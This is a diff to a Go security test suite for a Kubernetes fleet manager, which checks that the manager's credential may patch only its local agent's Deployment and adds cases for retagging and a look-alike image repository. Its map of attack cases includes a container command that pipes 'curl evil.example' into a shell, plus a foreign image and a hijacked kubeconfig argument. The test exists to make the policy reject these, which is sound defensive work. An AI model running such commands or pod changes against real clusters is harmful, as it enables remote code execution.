@@ -2,6 +2,7 @@ package security_test
 
 import (
 	"context"
+	"strings"
 	"time"
 
 	. "github.com/onsi/ginkgo/v2"
@@ -109,6 +110,16 @@ var _ = Describe("The manager's credential", func() {
 			err := manager.Patch(ctx, evil, client.MergeFrom(dep))
 			Expect(err).To(MatchError(ContainSubstring("writes only its local agent's Deployment")), what)
 		}
+		// An agent upgrade moves the local agent to another tag of the
+		// installed image's repository: a repair meanwhile installs the tag
+		// its agent Bundle names, which the policy lets through.
+		retag := dep.DeepCopy()
+		retag.Spec.Template.Spec.Containers[0].Image = imageRepository(dep.Spec.Template.Spec.Containers[0].Image) + ":v0.0.1-sec17"
+		Expect(manager.Patch(ctx, retag, client.MergeFrom(dep))).To(Succeed(), "another tag of the agent's repository")
+		back := retag.DeepCopy()
+		back.Spec.Template.Spec.Containers[0].Image = dep.Spec.Template.Spec.Containers[0].Image
+		Expect(manager.Patch(ctx, back, client.MergeFrom(retag))).To(Succeed(), "and back")
+		Expect(env.Admin.Get(ctx, client.ObjectKeyFromObject(dep), dep)).To(Succeed())
 		other := dep.DeepCopy()
 		other.ObjectMeta = metav1.ObjectMeta{Namespace: sys, Name: "sec-17-evil-agent", Labels: dep.Labels}
 		Expect(manager.Create(ctx, other)).To(MatchError(ContainSubstring("writes only its local agent's Deployment")))
@@ -230,8 +241,11 @@ func upgradeLocalAgent(ctx context.Context) {
 func deploymentAttacks() map[string]func(*corev1.PodSpec) {
 	return map[string]func(*corev1.PodSpec){
 		"another image": func(p *corev1.PodSpec) { p.Containers[0].Image = "evil.example/agent:latest" },
-		"a command":     func(p *corev1.PodSpec) { p.Containers[0].Command = []string{"/bin/sh", "-c", "curl evil.example | sh"} },
-		"other args":    func(p *corev1.PodSpec) { p.Containers[0].Args = []string{"--kubeconfig=/tmp/evil"} },
+		"a look-alike repository": func(p *corev1.PodSpec) {
+			p.Containers[0].Image = imageRepository(p.Containers[0].Image) + "-debug:latest"
+		},
+		"a command":  func(p *corev1.PodSpec) { p.Containers[0].Command = []string{"/bin/sh", "-c", "curl evil.example | sh"} },
+		"other args": func(p *corev1.PodSpec) { p.Containers[0].Args = []string{"--kubeconfig=/tmp/evil"} },
 		"another ServiceAccount": func(p *corev1.PodSpec) {
 			p.ServiceAccountName = "fleet-manager"
 		},
@@ -278,4 +292,15 @@ func expectSameAgentCode(got, want corev1.PodSpec) {
 		Expect(c.Args).To(Equal(want.Containers[i].Args))
 		Expect(c.Lifecycle).To(BeNil())
 	}
+}
+
+// imageRepository is an image reference without its tag or digest.
+func imageRepository(image string) string {
+	if i := strings.Index(image, "@"); i >= 0 {
+		image = image[:i]
+	}
+	if i := strings.LastIndex(image, ":"); i > strings.LastIndex(image, "/") {
+		image = image[:i]
+	}
+	return image
 }
